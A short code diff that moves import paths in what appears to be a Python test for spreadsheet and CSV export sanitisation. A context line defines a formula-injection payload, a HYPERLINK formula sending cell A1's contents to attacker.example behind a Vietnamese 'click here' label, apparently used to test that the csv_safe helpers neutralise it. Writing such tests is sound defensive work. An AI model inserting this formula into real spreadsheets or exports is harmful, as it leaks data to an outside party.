@@ -11,10 +11,10 @@ import numpy as np
 import pandas as pd
 from python_calamine import CalamineWorkbook
 
-from expectations.feedback import ROWS_SHEET, _write_workbook
-from orchestration.publish.indicators.constants import EXPORT_COLUMNS
-from orchestration.publish.indicators.exports import _write_workbook as write_export_workbook
-from orchestration.publish.indicators.exports import csv_safe, csv_safe_text
+from publish.indicators.constants import EXPORT_COLUMNS
+from publish.indicators.exports import _write_workbook as write_export_workbook
+from publish.indicators.exports import csv_safe, csv_safe_text
+from publish.quality.feedback import ROWS_SHEET, _write_workbook
 
 EVIL = '=HYPERLINK("https:attacker.example?leak="&A1,"Bấm vào đây")'  # no "/": it is also a file name
 
